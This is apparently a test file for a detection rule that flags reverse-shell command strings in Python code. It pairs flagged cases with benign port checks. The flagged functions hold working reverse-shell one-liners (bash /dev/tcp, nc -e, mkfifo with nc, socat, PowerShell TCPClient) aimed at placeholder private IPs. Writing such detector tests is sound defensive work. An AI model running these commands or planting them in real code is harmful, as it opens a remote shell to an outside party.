import os
import subprocess

HOST = "10.10.14.3"
PORT = 4444


def go():
    # ruleid: python-reverse-shell-command-string
    os.system("bash -i >& /dev/tcp/10.10.14.3/4444 0>&1")


def go_fstring(host, port):
    # ruleid: python-reverse-shell-command-string
    subprocess.Popen(f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'", shell=True)


def go_nc():
    # ruleid: python-reverse-shell-command-string
    cmd = "nc -e /bin/sh 10.10.14.3 4444"
    os.system(cmd)


def go_fifo():
    # ruleid: python-reverse-shell-command-string
    subprocess.run(["sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 9001 > /tmp/f"])


def go_socat():
    # ruleid: python-reverse-shell-command-string
    os.system("socat tcp-connect:10.0.0.1:4242 exec:/bin/bash,pty,stderr,setsid")


def go_ps():
    # ruleid: python-reverse-shell-command-string
    payload = "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);$stream = $client.GetStream()"
    subprocess.run(["powershell", "-c", payload])


def port_check(host):
    # ok: python-reverse-shell-command-string
    return subprocess.run(["nc", "-z", "-w", "2", host, "22"]).returncode == 0


def tcp_probe(host, port):
    # ok: python-reverse-shell-command-string
    os.system(f"nc -zv {host} {port}")


def tail_log():
    # ok: python-reverse-shell-command-string
    subprocess.run(["tail", "-n", "50", "/var/log/syslog"], check=True)


# ok: python-reverse-shell-command-string
DEVICE = "/dev/ttyUSB0"
